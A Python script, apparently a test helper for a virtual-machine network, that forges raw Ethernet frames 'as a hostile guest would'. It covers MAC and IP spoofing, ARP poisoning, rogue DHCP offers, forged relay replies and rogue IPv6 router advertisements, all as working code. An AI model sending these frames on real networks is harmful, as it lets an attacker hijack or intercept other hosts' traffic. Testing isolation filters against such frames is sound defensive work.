#!/usr/bin/env python3
"""Send one forged frame out of an interface, as a hostile guest would.

    spoof.py IFACE KIND OWN_MAC OWN_IP VICTIM_MAC VICTIM_IP GATEWAY_IP

KIND: mac (a frame from another MAC), ip (from another IPv4 address),
garp (gratuitous ARP claiming the victim's address), dhcp-server (a
DHCPOFFER to the victim, as a rogue server), relay-reply (a DHCPACK to the
gateway as if from a central server, giaddr = gateway, the victim's
chaddr, yiaddr 6.6.6.6), chaddr (a DISCOVER carrying the victim's MAC),
ra (an IPv6 router advertisement). Raw AF_PACKET: the kernel adds nothing.
"""

import socket
import struct
import sys


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def ip(s):
    return socket.inet_aton(s)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, proto, 0, ip(src), ip(dst))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload


def udp(sport, dport, payload):
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def bootp(op, chaddr, yiaddr="0.0.0.0", giaddr="0.0.0.0", msgtype=1, server=None):
    b = struct.pack("!BBBBIHH4s4s4s4s", op, 1, 6, 1 if giaddr != "0.0.0.0" else 0, 0x1234, 0, 0x8000,
                    ip("0.0.0.0"), ip(yiaddr), ip("0.0.0.0"), ip(giaddr))
    b += mac(chaddr) + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63"
    b += bytes([53, 1, msgtype])
    if server:
        b += bytes([54, 4]) + ip(server)
    return b + b"\xff"


def eth(dst, src, etype, payload):
    return mac(dst) + mac(src) + struct.pack("!H", etype) + payload


def main():
    iface, kind, own_mac, own_ip, victim_mac, victim_ip, gateway = sys.argv[1:8]
    bcast = "ff:ff:ff:ff:ff:ff"
    icmp = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"deorch-spoof"
    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
    if kind == "mac":
        f = eth(victim_mac, "52:54:00:de:ad:01", 0x0800, ipv4(own_ip, victim_ip, 1, icmp))
    elif kind == "ip":
        f = eth(victim_mac, own_mac, 0x0800, ipv4("10.77.0.99", victim_ip, 1, icmp))
    elif kind == "garp":
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac(own_mac) + ip(victim_ip) + mac(bcast) + ip(victim_ip)
        f = eth(bcast, own_mac, 0x0806, arp)
    elif kind == "dhcp-server":
        offer = bootp(2, victim_mac, yiaddr="6.6.6.6", msgtype=2, server=own_ip)
        f = eth(bcast, own_mac, 0x0800, ipv4(own_ip, "255.255.255.255", 17, udp(67, 68, offer)))
    elif kind == "relay-reply":
        ack = bootp(2, victim_mac, yiaddr="6.6.6.6", giaddr=gateway, msgtype=5, server="10.99.0.1")
        f = eth(bcast, own_mac, 0x0800, ipv4("10.99.0.1", gateway, 17, udp(67, 67, ack)))
    elif kind == "chaddr":
        disc = bootp(1, victim_mac)
        f = eth(bcast, own_mac, 0x0800, ipv4("0.0.0.0", "255.255.255.255", 17, udp(68, 67, disc)))
    elif kind == "ra":
        ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
        src6 = socket.inet_pton(socket.AF_INET6, "fe80::1")
        dst6 = socket.inet_pton(socket.AF_INET6, "ff02::1")
        pseudo = src6 + dst6 + struct.pack("!I3xB", len(ra), 58)
        ra = ra[:2] + struct.pack("!H", csum(pseudo + ra)) + ra[4:]
        ip6 = struct.pack("!IHBB", 6 << 28, len(ra), 58, 255) + src6 + dst6
        f = eth("33:33:00:00:00:01", own_mac, 0x86DD, ip6 + ra)
    else:
        sys.exit("unknown kind " + kind)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    for _ in range(3):
        s.send(f)


main()
